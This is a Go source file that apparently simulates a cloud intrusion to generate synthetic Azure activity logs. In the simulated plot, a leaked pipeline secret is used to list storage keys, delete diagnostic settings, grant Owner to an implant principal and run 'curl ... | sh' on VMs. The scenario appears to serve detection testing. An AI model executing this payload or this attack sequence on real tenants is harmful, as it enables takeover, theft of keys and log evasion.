package simulate

import (
	"strconv"
	"time"
)

// stolenPipeline: the secret of a deployment pipeline leaks, and somebody uses
// it at night from elsewhere.
func (c *Company) stolenPipeline(d *dice, at time.Time) *plot {
	p := &plot{Story: Story{
		Name: "The stolen pipeline",
		Summary: "The secret of " + c.cast.pipeline.Name + " leaks. At night a foreign address lists the keys of nine storage accounts, " +
			"cuts off the diagnostic logs, makes its own principal owner of the production subscription and runs commands on machines with it.",
	}}
	thief := c.cast.pipeline.shift(d, at, "192.0.2.77")
	p.scene(thief, KeysListed, func() {
		for _, account := range c.some(d, "Microsoft.Storage/storageAccounts", 9) {
			listKeys(thief, account)
			thief.wait(15*time.Second, 40*time.Second)
		}
	})
	thief.wait(4*time.Minute, 8*time.Minute)
	p.scene(thief, DiagnosticsRemoved, func() {
		for _, vault := range c.some(d, "Microsoft.KeyVault/vaults", 4) {
			thief.do(call{operation: "Microsoft.Insights/diagnosticSettings/delete", on: vault.under("Microsoft.Insights/diagnosticSettings", "to-workspace")})
			thief.wait(5*time.Second, 20*time.Second)
		}
	})
	thief.wait(3*time.Minute, 6*time.Minute)
	p.scene(thief, RoleGranted, func() {
		grant(thief, c.Subscriptions[0].self, c.cast.implant.ObjectID, "ServicePrincipal", owner)
	})
	implant := c.cast.implant.shift(d, thief.now.Add(10*time.Minute), "192.0.2.78")
	p.scene(implant, CommandRun, func() {
		for _, vm := range c.some(d, "Microsoft.Compute/virtualMachines", 3) {
			runCommand(implant, vm, "RunShellScript", "curl -s http://192.0.2.78/a.sh | sh")
			implant.wait(time.Minute, 3*time.Minute)
		}
	})
	return p.end(thief, implant)
}

// runCommand runs a script inside a machine.
func runCommand(s *shift, vm *Resource, command, script string) {
	s.do(call{
		operation: "Microsoft.Compute/virtualMachines/runCommand/action", on: vm, code: "Accepted", long: 90 * time.Second,
		request: `{"commandId":"` + command + `","script":[` + strconv.Quote(script) + `]}`,
	})
}

// some returns n different resources of a type in the production subscription
// and, if those are too few, elsewhere.
func (c *Company) some(d *dice, typ string, n int) []*Resource {
	var list []*Resource
	for _, s := range c.Subscriptions {
		for _, g := range s.groups {
			list = append(list, g.of(typ)...)
		}
		if len(list) >= n {
			break
		}
	}
	d.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
	return list[:min(n, len(list))]
}
